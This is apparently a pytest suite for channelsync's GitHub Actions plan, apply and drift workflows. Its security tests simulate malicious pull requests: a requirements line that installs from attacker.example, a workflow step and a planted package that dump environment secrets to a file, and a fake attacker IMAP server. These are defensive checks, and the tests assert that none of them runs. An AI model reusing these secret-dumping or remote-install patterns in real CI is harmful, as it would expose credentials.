"""The three workflow templates, run step by step in a scratch repository made by ``init``.

GitHub is replaced by the stub ``gh`` (fake_gh.py) and by the files a runner provides
($GITHUB_OUTPUT, $GITHUB_STEP_SUMMARY, $RUNNER_TEMP); everything else (channelsync, the helper
steps, the embedded SQLite tenant) is real. No step reaches the network: the plan runs as on a
fork pull request (no connection tests) and apply runs with CHANNELSYNC_SKIP_CONNECTION_TESTS.
"""

from __future__ import annotations

import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from tests.gitops.conftest import FakeGitHub, channelsync, git
from tests.gitops.local_runner import JobResult, run_job
from tests.probe.responder import Responder, imap

Env = Callable[..., dict[str, str]]
MARKER = "<!-- channelsync:plan -->"
PASSWORD = {"EXAMPLE_IMAP_PASSWORD": "s3cret-value"}
HEAD_SHA = "1111111111111111111111111111111111111111"


@pytest.fixture
def target(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'tenant' / 'tenant.db'}"


def pr_contexts(
    runner_temp: Path, *, fork: bool, secrets: dict[str, str] | None = None, base: str = "main"
) -> dict[str, Any]:
    head_repo = "mallory/channels" if fork else "acme/channels"
    return {
        "github": {
            "repository": "acme/channels",
            "actor": "alice",
            "token": "ghs_fake",
            "event": {
                "pull_request": {
                    "number": 7,
                    "head": {"sha": HEAD_SHA, "repo": {"full_name": head_repo}},
                    "base": {"ref": base},
                },
                "repository": {"default_branch": "main"},
            },
        },
        "secrets": {"GITHUB_TOKEN": "ghs_fake", **(secrets or {})},
        "vars": {},
        "runner": {"temp": str(runner_temp)},
    }


def run(
    repo: Path, workflow: str, job: str, contexts: dict[str, Any], env: dict[str, str]
) -> JobResult:
    temp = Path(contexts["runner"]["temp"])
    temp.mkdir(parents=True, exist_ok=True)
    path = repo / ".github" / "workflows" / workflow
    pull = contexts["github"]["event"].get("pull_request")
    if pull is not None:  # pull_request_target: GitHub runs the base branch's copy of the file
        base_copy = git(repo, "show", f"origin/{pull['base']['ref']}:.github/workflows/{workflow}")
        if "pull_request_target" in YAML(typ="safe").load(base_copy)["on"]:
            path = temp / workflow
            path.write_text(base_copy, encoding="utf-8")
    return run_job(path, job, workdir=repo, contexts=contexts, env=env)


def plan_pr(repo: Path, tmp_path: Path, env: dict[str, str], name: str, **kw: Any) -> JobResult:
    contexts = pr_contexts(tmp_path / name, **kw)
    return run(repo, "channels-plan.yml", "plan", contexts, env)


def edit_example(repo: Path, old: str, new: str) -> None:
    path = repo / "channels.d" / "example.yaml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")


# ---- channels-plan.yml -------------------------------------------------------------------------


def test_a_forks_plan_never_reaches_the_tenant(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env
) -> None:
    """Its comment is public: with the tenant's URL and token, a fork's plan would show the
    live tenant to anyone who opens a pull request."""
    secrets = {"CHANNELSYNC_TARGET": "http://127.0.0.1:1", "CHANNELSYNC_TOKEN": "cst_x"}
    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=True, secrets=secrets)
    assert result.ok, [(s.name, s.stderr) for s in result.steps]
    body = fake_gh.state["comments"][0]["body"]
    assert body.startswith(MARKER + "\n### channelsync Plan: 1 to create")
    assert "127.0.0.1:1" not in body


def test_plan_workflow_posts_one_sticky_comment_and_edits_it_in_place(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env
) -> None:
    env = runner_env(GITHUB_SHA=HEAD_SHA)
    first = plan_pr(scratch_repo, tmp_path, env, "run1", fork=True)
    assert first.ok, [(s.name, s.stderr) for s in first.steps]
    comments = fake_gh.state["comments"]
    assert len(comments) == 1
    body = comments[0]["body"]
    assert body.startswith(MARKER + "\n### channelsync Plan: 1 to create")
    assert "create EmailChannel <b>Example Support</b>" in body
    assert "This pull request comes from a fork (or Dependabot): its plan gets no secrets" in body
    assert "No `CHANNELSYNC_TARGET` in this run" not in body  # the fork note says it all
    run_link = "https://github.example/acme/channels/actions/runs/4242"
    assert f"commit 111111111111 · [workflow run]({run_link})" in body
    assert first.summary.strip() == body.strip()  # the job summary shows the same comment

    edit_example(scratch_repo, "email: support@example.com", "email: help@example.com")
    second = plan_pr(scratch_repo, tmp_path, env, "run2", fork=True)
    assert second.ok
    comments = fake_gh.state["comments"]
    assert len(comments) == 1, "the second run must edit the comment, not add one"
    assert '+ email = "help@example.com"' in comments[0]["body"]
    methods = [c[c.index("-X") + 1] for c in fake_gh.calls() if "-X" in c]
    assert methods == ["POST", "PATCH"]


def test_plan_workflow_uploads_the_saved_plan_artifact(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env
) -> None:
    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=True)
    assert result.ok
    artifact = result.artifacts["channelsync-plan"]
    assert sorted(p.name for p in artifact.iterdir()) == ["plan.json", "plan.md"]
    saved = json.loads((artifact / "plan.json").read_text(encoding="utf-8"))
    assert saved["summary"]["create"] == 1
    assert PASSWORD["EXAMPLE_IMAP_PASSWORD"] not in (artifact / "plan.json").read_text()
    assert result.step("plan").outputs == {"exitcode": "2", "changes": "true"}


def test_plan_workflow_annotates_validation_errors_and_says_so_in_the_comment(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env
) -> None:
    (scratch_repo / "channels.d" / "broken.yaml").write_text(
        "kind: EmailChannel\nname: Broken\nemail: not-an-address\n"
        "incoming: {server: imap.example.com, protocol: imapx, user: u, password: p}\n",
        encoding="utf-8",
    )
    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=True)
    assert not result.ok
    validate = result.step("validate")
    assert validate.outcome == "failure"
    annotations = validate.stdout.splitlines()
    assert (
        "::error file=channels.d/broken.yaml,line=3,col=8::email: 'not-an-address' is not a "
        "valid email address (expected name@domain.tld)"
    ) in annotations
    assert any(a.startswith("::error file=channels.d/broken.yaml,line=4,") for a in annotations)
    assert result.step("plan").outcome == "skipped"
    assert "channelsync-plan" not in result.artifacts
    body = fake_gh.state["comments"][0]["body"]
    assert body.startswith(f"{MARKER}\n### channelsync: validation failed")


def test_plan_comment_on_a_fork_with_a_read_only_token_falls_back_to_the_summary(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env
) -> None:
    fake_gh.update(fail=True)
    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=True)
    assert result.ok
    comment = result.step("comment")
    assert "::warning::could not comment on the pull request (fork token?)" in comment.stdout
    assert result.summary.startswith(MARKER)


def bind_on_main(repo: Path, endpoints: str | None) -> None:
    """Commit (or, with None, remove) the bindings file on main, and make it origin/main."""
    path = repo / "channelsync.secrets.yaml"
    if endpoints is None:
        path.unlink()
    else:
        path.write_text(
            f"bindings:\n  - secret: ${{env:EXAMPLE_IMAP_PASSWORD}}\n    endpoints: {endpoints}\n"
        )
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "bindings")
    git(repo, "update-ref", "refs/remotes/origin/main", "HEAD")


def test_plan_workflow_with_secrets_runs_the_connection_tests_and_reports_failures(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env, target: str
) -> None:
    bind_on_main(scratch_repo, '["127.0.0.1:9"]')
    # nothing listens on the discard port of loopback: a refused connection, no network needed
    edit_example(scratch_repo, "  server: imap.example.com\n", "  server: 127.0.0.1\n  port: 9\n")
    # enabled: a disabled channel's failed test only warns (its mailbox may not be ready yet)
    edit_example(scratch_repo, "enabled: false", "enabled: true")
    secrets = {"CHANNELSYNC_TARGET": target, **PASSWORD}
    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=False, secrets=secrets)
    assert not result.ok
    assert result.step("plan").outputs["exitcode"] == "1"
    assert "channelsync-plan" not in result.artifacts  # a failed plan is never applied
    body = fake_gh.state["comments"][0]["body"]
    assert body.startswith(MARKER + "\n### channelsync Plan: 1 to create")
    assert "**Connection tests:** 0 passed, 1 failed" in body
    assert "`imap-ssl://127.0.0.1:9`" in body
    assert "### channelsync: plan failed" in body
    assert "Connection tests were not run" not in body
    assert PASSWORD["EXAMPLE_IMAP_PASSWORD"] not in body


def point_example_at(repo: Path, port: int) -> None:
    """The example channel, enabled (a disabled channel's failed test only warns), on a port."""
    edit_example(repo, "  server: imap.example.com\n", f"  server: 127.0.0.1\n  port: {port}\n")
    edit_example(repo, "enabled: false", "enabled: true")


def test_plan_workflow_uses_the_base_branch_bindings_not_the_pull_requests(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env, target: str
) -> None:
    bind_on_main(scratch_repo, '["imap.example.com:993"]')  # as init wrote it
    attacker = Responder(*imap())
    try:
        point_example_at(scratch_repo, attacker.port)
        # the pull request binds the secret to its own server, in its own copy of the file
        (scratch_repo / "channelsync.secrets.yaml").write_text(
            "bindings:\n  - secret: ${env:EXAMPLE_IMAP_PASSWORD}\n"
            f'    endpoints: ["127.0.0.1:{attacker.port}"]\n'
        )
        secrets = {"CHANNELSYNC_TARGET": target, **PASSWORD}
        env = runner_env(CHANNELSYNC_SECRET_BINDINGS=str(scratch_repo / "channelsync.secrets.yaml"))
        result = plan_pr(scratch_repo, tmp_path, env, "run", fork=False, secrets=secrets)
        assert not result.ok
        body = fake_gh.state["comments"][0]["body"]
        assert "**Connection tests:** 0 passed, 1 failed" in body
        assert "secret_not_bound" in body
        assert (
            "if the secret belongs there, change line 3 of channelsync.secrets.yaml on main to: "
            f"endpoints: [&quot;imap.example.com:993&quot;, &quot;127.0.0.1:{attacker.port}&quot;]"
        ) in body
        assert attacker.received == [] and attacker._connections == []
        assert PASSWORD["EXAMPLE_IMAP_PASSWORD"] not in body
    finally:
        attacker.close()


@pytest.mark.parametrize("case", ["no-file-on-main", "other-base"])
def test_plan_workflow_without_trusted_bindings_runs_no_connection_tests_and_says_why(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env, target: str, case: str
) -> None:
    bind_on_main(scratch_repo, None if case == "no-file-on-main" else '["127.0.0.1:1"]')
    server = Responder(*imap())
    try:
        point_example_at(scratch_repo, server.port)
        (scratch_repo / "channelsync.secrets.yaml").write_text(
            "bindings:\n  - secret: ${env:EXAMPLE_IMAP_PASSWORD}\n"
            f'    endpoints: ["127.0.0.1:{server.port}"]\n'
        )
        secrets = {"CHANNELSYNC_TARGET": target, **PASSWORD}
        base = "main" if case == "no-file-on-main" else "release"
        if base != "main":
            git(scratch_repo, "update-ref", "refs/remotes/origin/release", "HEAD")
        result = plan_pr(
            scratch_repo, tmp_path, runner_env(), "run", fork=False, secrets=secrets, base=base
        )
        assert result.ok, [(s.name, s.stderr) for s in result.steps]
        body = fake_gh.state["comments"][0]["body"]
        why = (
            "`main` has no `channelsync.secrets.yaml`"
            if case == "no-file-on-main"
            else "this pull request targets `release`, not the default branch `main`"
        )
        assert f"Connection tests were not run: {why}. They send secrets only to" in body
        assert "**Connection tests:**" not in body
        assert server._connections == []
    finally:
        server.close()


def test_plan_workflow_installs_the_base_branchs_channelsync_never_the_pull_requests(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env, target: str
) -> None:
    bind_on_main(scratch_repo, None)  # no connection tests: nothing here reaches the network
    requirements = Path(".github/channelsync/requirements.txt")
    on_main = (scratch_repo / requirements).read_text(encoding="utf-8")
    (scratch_repo / requirements).write_text("channelsync @ git+https://attacker.example/x\n")
    secrets = {"CHANNELSYNC_TARGET": target, **PASSWORD}
    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=False, secrets=secrets)
    assert result.ok, [(s.name, s.stderr) for s in result.steps]
    install = result.step("install")  # stubbed: where it would run `pip install -r` instead
    assert install.cwd == tmp_path / "run" / "channelsync-base"
    assert (install.cwd / requirements).read_text(encoding="utf-8") == on_main
    body = fake_gh.state["comments"][0]["body"]
    assert (
        "This pull request changes `.github/channelsync/requirements.txt`. This plan ran the "
        "workflow and the channelsync of `main` (a pull request's files are only read as data, "
        "and nothing from them runs where secrets are): the change takes effect once it is merged."
    ) in body


def test_plan_workflow_runs_the_base_branchs_copy_of_itself_not_the_pull_requests(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env, target: str
) -> None:
    bind_on_main(scratch_repo, None)
    workflow = scratch_repo / ".github" / "workflows" / "channels-plan.yml"
    leak = tmp_path / "leaked"
    text = workflow.read_text(encoding="utf-8")
    plan_step = "run: python -P -m channelsync.gitops.ci plan"
    assert plan_step in text
    workflow.write_text(text.replace(plan_step, f"run: env > {leak}"), encoding="utf-8")
    secrets = {"CHANNELSYNC_TARGET": target, **PASSWORD}
    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=False, secrets=secrets)
    assert result.ok, [(s.name, s.stderr) for s in result.steps]
    assert not leak.exists(), "the pull request's own workflow ran with the secrets"
    body = fake_gh.state["comments"][0]["body"]
    assert "This pull request changes `.github/workflows/channels-plan.yml`." in body


def test_plan_workflow_never_imports_a_channelsync_folder_of_the_pull_request(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env, target: str
) -> None:
    bind_on_main(scratch_repo, None)
    package = scratch_repo / "channelsync"
    package.mkdir()
    leak = tmp_path / "leaked"
    code = f"import os, pathlib\npathlib.Path({str(leak)!r}).write_text(repr(dict(os.environ)))\n"
    for name in ("__init__.py", "__main__.py"):
        (package / name).write_text(code)
    secrets = {"CHANNELSYNC_TARGET": target, **PASSWORD}
    result = plan_pr(scratch_repo, tmp_path, runner_env(), "run", fork=False, secrets=secrets)
    assert result.ok, [(s.name, s.stderr) for s in result.steps]
    assert not leak.exists(), "the pull request's own channelsync/ ran with the secrets"
    assert "### channelsync Plan: 1 to create" in fake_gh.state["comments"][0]["body"]


# ---- channels-apply.yml ------------------------------------------------------------------------


def push_contexts(runner_temp: Path, target: str) -> dict[str, Any]:
    return {
        "github": {"repository": "acme/channels", "token": "ghs_fake", "event": {}},
        "secrets": {"CHANNELSYNC_TARGET": target, **PASSWORD},
        "vars": {"CHANNELSYNC_SKIP_CONNECTION_TESTS": "true"},
        "runner": {"temp": str(runner_temp)},
    }


def reviewed_pull_request(
    repo: Path, tmp_path: Path, fake_gh: FakeGitHub, env: dict[str, str], target: str
) -> str:
    """Plan the PR head (with the target), publish its artifact, merge it; the merge sha."""
    contexts = pr_contexts(tmp_path / "pr", fork=False, secrets={"CHANNELSYNC_TARGET": target})
    planned = run(repo, "channels-plan.yml", "plan", contexts, env)
    assert planned.ok, [(s.name, s.stderr) for s in planned.steps]
    archive = tmp_path / "artifact.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for f in planned.artifacts["channelsync-plan"].iterdir():
            z.write(f, f.name)
    merge_sha = git(repo, "rev-parse", "HEAD")
    fake_gh.update(
        pulls=[
            {
                "number": 7,
                "merged_at": "2025-01-01T00:00:00Z",
                "merge_commit_sha": merge_sha,
                "head": {"sha": HEAD_SHA},
            }
        ],
        runs=[{"id": 55, "workflow": "channels-plan.yml", "head_sha": HEAD_SHA}],
        artifacts=[{"id": 77, "run_id": 55, "name": "channelsync-plan", "zip": str(archive)}],
    )
    return merge_sha


def apply_run(repo: Path, tmp_path: Path, target: str, env: dict[str, str]) -> JobResult:
    result = run(repo, "channels-apply.yml", "apply", push_contexts(tmp_path / "push", target), env)
    assert result.ok, [(s.name, s.stdout, s.stderr) for s in result.steps]
    return result


def test_apply_workflow_applies_the_reviewed_saved_plan(
    scratch_repo: Path,
    tmp_path: Path,
    fake_gh: FakeGitHub,
    runner_env: Env,
    target: str,
) -> None:
    merge_sha = reviewed_pull_request(scratch_repo, tmp_path, fake_gh, runner_env(), target)
    result = apply_run(scratch_repo, tmp_path, target, runner_env(GITHUB_SHA=merge_sha))
    assert result.step("reviewed").outputs == {"found": "true"}
    assert "Apply complete: 1 created." in result.step("apply").stdout
    assert "channelsync apply: applied (the reviewed plan)" in result.summary
    assert "connection tests skipped" in result.step("apply").stderr


def _main_moved_on(repo: Path, target: str, fake_gh: FakeGitHub, env: Env) -> str:
    edit_example(repo, "imap.example.com", "imap2.example.com")
    git(repo, "commit", "-q", "-am", "another change")
    merge_sha = git(repo, "rev-parse", "HEAD")
    pulls = fake_gh.state["pulls"]
    pulls[0]["merge_commit_sha"] = merge_sha
    fake_gh.update(pulls=pulls)
    return merge_sha


def _tenant_moved_on(repo: Path, target: str, fake_gh: FakeGitHub, env: Env) -> str:
    other = repo.parent / "elsewhere"  # someone applies the same change from another checkout
    shutil.copytree(repo / "channels.d", other / "channels.d")
    args = ("apply", "--auto-approve", "--skip-connection-tests", "--target", target)
    done = channelsync(*args, cwd=other, env=env(**PASSWORD))
    assert done.code == 0, done.out
    return git(repo, "rev-parse", "HEAD")


@pytest.mark.parametrize("moved_on", [_main_moved_on, _tenant_moved_on], ids=["main", "tenant"])
def test_apply_workflow_replans_when_the_reviewed_plan_is_stale(
    scratch_repo: Path,
    tmp_path: Path,
    fake_gh: FakeGitHub,
    runner_env: Env,
    target: str,
    moved_on: Callable[[Path, str, FakeGitHub, Env], str],
) -> None:
    """apply exits 3 on a stale saved plan; the workflow re-plans on that code."""
    reviewed_pull_request(scratch_repo, tmp_path, fake_gh, runner_env(), target)
    merge_sha = moved_on(scratch_repo, target, fake_gh, runner_env)
    result = apply_run(scratch_repo, tmp_path, target, runner_env(GITHUB_SHA=merge_sha))
    apply = result.step("apply")
    assert "stale plan" in apply.stderr
    assert "::notice::the reviewed plan is stale" in apply.stdout
    assert "channelsync apply: applied (a fresh plan)" in result.summary
    drift = channelsync("drift", "--target", target, cwd=scratch_repo, env=runner_env(**PASSWORD))
    assert drift.code == 0, drift.out  # the tenant now matches main, not the stale plan


def test_apply_workflow_without_a_pull_request_replans(
    scratch_repo: Path,
    tmp_path: Path,
    fake_gh: FakeGitHub,
    runner_env: Env,
    target: str,
) -> None:
    result = apply_run(
        scratch_repo,
        tmp_path,
        target,
        runner_env(GITHUB_SHA=git(scratch_repo, "rev-parse", "HEAD")),
    )
    assert result.ok
    assert result.step("reviewed").outputs == {"found": "false"}
    assert "no merged pull request for this commit" in result.step("reviewed").stdout
    assert "Apply complete: 1 created." in result.step("apply").stdout


def test_apply_workflow_gate_honours_the_bindings_on_main(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env, target: str
) -> None:
    server = Responder(*imap())
    try:
        point_example_at(scratch_repo, server.port)  # init bound the secret elsewhere
        git(scratch_repo, "commit", "-q", "-am", "move the example")
        contexts = push_contexts(tmp_path / "push", target)
        contexts["vars"] = {}  # the gate runs
        env = runner_env(GITHUB_SHA=git(scratch_repo, "rev-parse", "HEAD"))
        result = run(scratch_repo, "channels-apply.yml", "apply", contexts, env)
        assert result.step("apply").outcome == "failure"
        assert "secret_not_bound" in result.step("apply").stderr
        assert "Apply stopped by the connection tests; nothing was changed." in (
            result.step("apply").stderr
        )
        assert server._connections == []
    finally:
        server.close()


# ---- channels-drift.yml ------------------------------------------------------------------------


def drift_contexts(runner_temp: Path, target: str) -> dict[str, Any]:
    return {
        "github": {"repository": "acme/channels", "token": "ghs_fake", "event": {}},
        "secrets": {"CHANNELSYNC_TARGET": target, **PASSWORD},
        "vars": {},
        "runner": {"temp": str(runner_temp)},
    }


def drift_run(repo: Path, tmp_path: Path, target: str, env: dict[str, str], name: str) -> JobResult:
    return run(repo, "channels-drift.yml", "drift", drift_contexts(tmp_path / name, target), env)


def test_drift_workflow_opens_updates_and_closes_one_drift_issue(
    scratch_repo: Path,
    tmp_path: Path,
    fake_gh: FakeGitHub,
    runner_env: Env,
    target: str,
) -> None:
    env = runner_env(GITHUB_SHA=git(scratch_repo, "rev-parse", "HEAD"))
    applied = channelsync(
        "apply",
        "--auto-approve",
        "--skip-connection-tests",
        "--target",
        target,
        cwd=scratch_repo,
        env={**env, **PASSWORD},
    )
    assert applied.code == 0, applied.err
    in_sync = drift_run(scratch_repo, tmp_path, target, env, "d0")
    assert in_sync.ok
    assert in_sync.step("drift").outputs == {"exitcode": "0"}
    assert fake_gh.state.get("issues", []) == []

    edit_example(scratch_repo, "imap.example.com", "imap.elsewhere.example.com")
    drifted = drift_run(scratch_repo, tmp_path, target, env, "d1")
    assert not drifted.ok, "drift must fail the job"
    assert drifted.step("drift").outputs == {"exitcode": "2"}
    assert drifted.step("fail-on-drift").outcome == "failure"
    (issue,) = fake_gh.state["issues"]
    assert issue["labels"] == ["drift"] and issue["state"] == "open"
    assert issue["title"] == "channelsync: the tenant has drifted from channels.d/"
    assert "### channelsync Drift: 0 to create, 1 to update" in issue["body"]
    assert '~ incoming.server: "imap.example.com" -> "imap.elsewhere.example.com"' in issue["body"]
    assert "closes it once the tenant is back in sync" in issue["body"]

    again = drift_run(scratch_repo, tmp_path, target, env, "d2")
    assert not again.ok
    assert len(fake_gh.state["issues"]) == 1, "drift must update the one issue, not open another"
    assert "updated drift issue #1" in again.step("issue").stdout

    edit_example(scratch_repo, "imap.elsewhere.example.com", "imap.example.com")
    back = drift_run(scratch_repo, tmp_path, target, env, "d3")
    assert back.ok
    (issue,) = fake_gh.state["issues"]
    assert issue["state"] == "closed"
    assert fake_gh.state["comments"][-1]["body"].startswith("Back in sync (https://github.example/")


def test_drift_workflow_error_fails_without_touching_the_issue(
    scratch_repo: Path, tmp_path: Path, fake_gh: FakeGitHub, runner_env: Env
) -> None:
    contexts = drift_contexts(tmp_path / "d", "nosuchscheme://tenant")
    result = run(scratch_repo, "channels-drift.yml", "drift", contexts, runner_env())
    assert not result.ok
    assert result.step("drift").outputs == {"exitcode": "1"}
    assert result.step("issue").outcome == "skipped"
    assert fake_gh.calls() == []
